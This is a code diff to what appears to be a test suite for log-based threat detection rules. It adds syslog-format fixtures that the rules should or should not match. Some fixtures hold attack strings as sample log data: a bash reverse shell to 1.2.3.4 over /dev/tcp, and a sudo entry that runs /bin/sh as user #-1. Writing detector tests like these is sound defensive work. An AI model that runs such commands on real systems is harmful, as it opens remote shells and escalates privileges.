@@ -24,6 +24,9 @@ const of = (name: string, rest: JsonObject): JsonObject => {
   return { ...head, ...rest, event };
 };
 
+/** A line of a log file, as the reader of syslog has it. */
+const syslogLine = (appname: string, message: string): JsonObject => ({ message, log: { syslog: { hostname: "web1", appname } } });
+
 interface Case {
   readonly logsource: string;
   /** In YAML's flow style. */
@@ -457,8 +460,10 @@ const CASES: readonly Case[] = [
     yes: [
       { SYSLOG_IDENTIFIER: "sshd", MESSAGE: "ssh_dispatch_run_fatal: Corrupted MAC on input" },
       { process: { name: "sshd" }, message: "Corrupted MAC on input" },
+      syslogLine("sshd", "ssh_dispatch_run_fatal: Corrupted MAC on input"),
     ],
     no: [
+      syslogLine("cron", "Corrupted MAC on input"),
       { SYSLOG_IDENTIFIER: "cron", MESSAGE: "Corrupted MAC on input" },
       { process: { name: "sshd" }, message: "Accepted publickey" },
     ],
@@ -466,7 +471,11 @@ const CASES: readonly Case[] = [
   {
     logsource: "product: linux, service: sudo",
     selection: "{USER|startswith: '#'}",
-    yes: [{ program: "sudo", USER: "#-1" }, of("system.auth", { process: { name: "sudo" }, user: { effective: { name: "#-1" } } })],
+    yes: [
+      { program: "sudo", USER: "#-1" },
+      of("system.auth", { process: { name: "sudo" }, user: { effective: { name: "#-1" } } }),
+      syslogLine("sudo", "eve : TTY=pts/0 ; PWD=/ ; USER=#-1 ; COMMAND=/bin/sh"),
+    ],
     no: [{ program: "su", USER: "#-1" }],
   },
   ...(
@@ -480,6 +489,7 @@ const CASES: readonly Case[] = [
     yes: [
       { log: { file: { path: service === "auth" ? "/var/log/auth.log" : "/var/log/syslog" } }, message: "x: segfault at 0" },
       of(name, { message: "x: segfault at 0" }),
+      syslogLine(service === "auth" ? "sudo" : "app", "x: segfault at 0"),
     ],
     no: [{ log: { file: { path: "/var/log/dpkg.log" } }, message: "x: segfault at 0" }],
   })),
@@ -496,6 +506,7 @@ const CASES: readonly Case[] = [
     yes: [
       { _COMM: program, MESSAGE: "an evil thing" },
       { process: { name: program }, message: "an evil thing" },
+      syslogLine(program, "an evil thing"),
     ],
     no: [{ process: { name: "other" }, message: "an evil thing" }],
   })),
@@ -505,6 +516,7 @@ const CASES: readonly Case[] = [
     yes: [
       { host: { os: { type: "linux" } }, message: "bash -i >& /dev/tcp/1.2.3.4/1" },
       { SYSLOG_IDENTIFIER: "bash", MESSAGE: "bash -i >& /dev/tcp/1.2.3.4/1" },
+      syslogLine("bash", "bash -i >& /dev/tcp/1.2.3.4/1"),
     ],
     no: [{ host: { os: { type: "windows" } }, message: "bash -i >& /dev/tcp/1.2.3.4/1" }],
   },
